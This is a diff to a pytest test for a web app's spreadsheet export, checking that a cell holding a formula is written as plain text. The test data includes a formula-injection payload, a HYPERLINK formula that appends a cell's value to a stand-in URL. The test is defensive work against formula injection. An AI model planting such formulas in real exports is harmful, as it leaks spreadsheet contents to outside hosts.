@@ -13,7 +13,8 @@ import pytest
 from litestar import Litestar
 from litestar.testing import TestClient
 
-from tests.conftest import World, bearer
+from seatkeeper.storage.db import Database
+from tests.conftest import World, bearer, offer
 from tests.web.api.test_agent import call, error_of, login
 from tests.web.pages.test_pages import log_in
 
@@ -91,9 +92,12 @@ def test_grid_downloads_hold_every_matching_session_sorted_as_asked(
     )
 
 
-def test_a_cell_a_spreadsheet_would_run_is_written_as_text(client: Client, world: World) -> None:
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(
+    client: Client, world: World, db: Database
+) -> None:
     alice = login(client, world, "alice")
     formula = '=HYPERLINK("http://example.com/?"&A1,"x")'
+    offer(db, formula)
     call(client, "POST", f"{alice['session_id']}/interactions", alice["token"], {"flow": formula})
     (row,) = rows_of(get(client, "/active-sessions/export", world.admin_token))
     assert row["open_interactions"] == "'" + formula
